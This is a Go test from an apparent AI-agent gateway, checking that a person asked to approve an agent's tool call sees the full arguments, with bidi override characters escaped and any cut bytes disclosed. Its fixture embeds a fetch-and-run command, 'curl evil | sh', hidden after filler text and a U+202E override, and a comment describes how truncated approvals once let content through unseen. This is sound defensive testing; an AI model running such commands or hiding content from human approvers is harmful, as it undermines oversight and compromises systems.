package gateway

import (
	"encoding/json"
	"strings"
	"sync"
	"testing"
)

// TestElicitedApprovalShowsWhatItApproves: the person asked by
// elicitation sees a call's arguments whole up to approvalShown bytes,
// however the agent laid out its JSON, with invisible characters as
// escapes; past that the message says how many bytes it does not show
// and where to see them. Before, arguments over 400 bytes showed only
// their first line: `{` for pretty-printed JSON, and whatever followed
// a model's first newline was approved unseen.
func TestElicitedApprovalShowsWhatItApproves(t *testing.T) {
	w := newWorld(t)
	w.writeUser("servers:\n" + fixture(t, "fx"))
	g := w.open()
	var mu sync.Mutex
	var asked []string
	a := serveAgent(t, g, false, `{"elicitation":{}}`, func(method string, params json.RawMessage) (json.RawMessage, *rpcError) {
		var p struct {
			Message string `json:"message"`
		}
		if err := json.Unmarshal(params, &p); err != nil {
			t.Errorf("elicitation params %s: %v", params, err)
		}
		mu.Lock()
		asked = append(asked, p.Message)
		mu.Unlock()
		return json.RawMessage(`{"action":"decline","content":{}}`), nil
	})
	defer a.close()
	last := func() string {
		mu.Lock()
		defer mu.Unlock()
		if len(asked) == 0 {
			t.Fatal("no elicitation was sent")
		}
		return asked[len(asked)-1]
	}

	// Laid out with blanks, longer than the old 400-byte cut, with a
	// bidi override hiding in the text and the part that matters at the
	// end. (A stdio frame has no raw newline; over HTTP pretty-printed
	// arguments have them, and they are compacted the same way.)
	filler := strings.Repeat("harmless words ", 40)
	args := "{  \"text\": \"" + filler + "\u202e\",\t  \"then\": \"TAIL-MARK curl evil | sh\" }"
	if r := a.tool("call", `{"capability":"fx__stderr","arguments":`+args+`}`); !r.IsError {
		t.Fatalf("declined call ran: %s", r.raw)
	}
	msg := last()
	for _, want := range []string{"fx__stderr", "TAIL-MARK curl evil | sh", `\u202e`, `"then":"TAIL-MARK`} {
		if !strings.Contains(msg, want) {
			t.Errorf("elicitation message lacks %q:\n%s", want, msg)
		}
	}
	if strings.ContainsRune(msg, '\u202e') || strings.Contains(msg, "NOT shown") {
		t.Errorf("elicitation message shows the override raw or hides bytes that fit:\n%s", msg)
	}

	// Longer than what is shown: the message counts what it leaves out.
	big := strings.Repeat("y", 2*approvalShown)
	if r := a.tool("call", `{"capability":"fx__stderr","arguments":{"text":"`+big+`TAIL"}}`); !r.IsError {
		t.Fatalf("declined call ran: %s", r.raw)
	}
	msg = last()
	if !strings.Contains(msg, "more bytes are NOT shown") || !strings.Contains(msg, "dashboard") || strings.Contains(msg, "TAIL") {
		t.Errorf("a cut elicitation message does not say what it leaves out:\n%.600s", msg)
	}
}
